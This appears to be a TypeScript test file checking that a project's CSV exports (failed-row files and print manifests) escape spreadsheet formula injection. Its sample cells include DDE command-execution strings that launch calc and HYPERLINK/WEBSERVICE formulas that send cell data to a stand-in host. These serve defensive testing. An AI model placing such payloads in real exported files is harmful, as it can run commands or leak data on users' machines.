/** What a spreadsheet would run, in every CSV that is written: read by a second reader no cell begins like a formula, and handed in again each is what it was. */

import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { type Manifest, manifestCsv } from '../../../src/deliver/print/manifest.ts';
import { failedRowsCsv } from '../../../src/ingest/failed-rows.ts';
import { readCsv } from '../csv/read-csv.ts';
import type { Entry, Table } from '../run-table.ts';

export interface Exported {
  /** Each cell as another reader has it. */
  cells: string[];
  /** The file of failed rows, handed in again. */
  back?: string[];
}

export const cells = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example?"&A1,"x")',
  '=WEBSERVICE("http://x.example")',
  '=IMPORTXML("http://x.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=1+1,"=2+2',
  '"=1+1',
  '=1+1\n=2+2',
  '+44 20 7946 0958',
  '-12.50',
  '@handle',
  '==1',
  '-',
];
const harmless = ['', '1=1', 'a@b.org', 'a-b', "'quoted'", 'a,b', 'a\nb', 'a"b', 'é', "O'Brien"];
const formula = /^\s*[=+\-@＝＋－＠]/;

async function textOf(pieces: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const piece of pieces) text += piece;
  return text;
}

const parseCsv = (text: string) => parse(text, { bom: true, relax_column_count: true }) as string[][];

/** A header, and for each text a row with it in a cell and in the error: each place where a stranger's text may stand. */
export function failedRowsText(texts: readonly string[]): Promise<string> {
  return textOf(
    failedRowsCsv(['name', 'note'], Readable.from(texts.map((text) => ({ cells: ['Ana', text], error: text })))),
  );
}

async function asFailedRow(cell: string): Promise<Exported> {
  const text = await failedRowsText([cell]);
  const { rows } = await readCsv({ bytes: Buffer.from(text) });
  return { cells: parseCsv(text).flat(), back: rows[0]?.slice(1) as string[] };
}

/** With the text wherever one stands. */
export function manifestText(text: string): string {
  const address = {
    name: text,
    organization: text,
    lines: [text],
    city: text,
    region: text,
    postalCode: text,
    country: text,
  };
  const piece = {
    seq: 1,
    code: text,
    firstPage: 1,
    lastPage: 1,
    addressLines: [text],
    returnLines: [text],
    barcode: '',
    id: 'i',
    uniqueId: text,
    jobNumber: 1,
    address,
    sheets: 1,
    pdfFirst: 1,
    pdfLast: 1,
    envelope: { name: text, capacity: 1, hasReturnWindow: false },
  };
  const product = {
    name: text,
    page: { width: 612, height: 792 },
    stock: text,
    color: false,
    duplex: false,
    mailClass: text,
    productionTime: text,
  };
  const manifest = {
    runId: 'r',
    runNumber: 1,
    mailingNumber: 1,
    createdAt: '',
    product,
    pages: 1,
    sheets: 1,
    pieces: [piece],
  };
  return Buffer.concat([...manifestCsv(manifest as unknown as Manifest)]).toString();
}

function asManifest(text: string): Exported {
  return { cells: parseCsv(manifestText(text)).flat() };
}

const entry = (cell: string, isFormula: boolean): Entry<string, Exported> => ({
  name: JSON.stringify(cell),
  input: cell,
  judge(outcome) {
    assert.ok('output' in outcome);
    const { cells: written, back } = outcome.output;
    for (const one of written) assert.doesNotMatch(one.replace(/^'.*/s, ''), formula, 'a formula is left bare');
    assert.ok(written.includes(isFormula ? `'${cell}` : cell), 'the text is changed');
    if (!back) return;
    const unguarded = (text = '') => (isFormula ? text.replace(/^'/, '') : text);
    assert.equal(unguarded(back[1]), cell);
  },
});

const entries = [
  ...cells.map((cell) => entry(cell, !cell.startsWith('"'))),
  ...harmless.map((cell) => entry(cell, false)),
];

export const failedRows: Table<string, Exported> = {
  name: 'exports: formulas in the file of failed rows',
  from: 'written for this project',
  feed: asFailedRow,
  entries: entries,
};

export const manifests: Table<string, Exported> = {
  name: 'exports: formulas in the manifest of a print run',
  from: 'written for this project',
  feed: asManifest,
  entries,
};
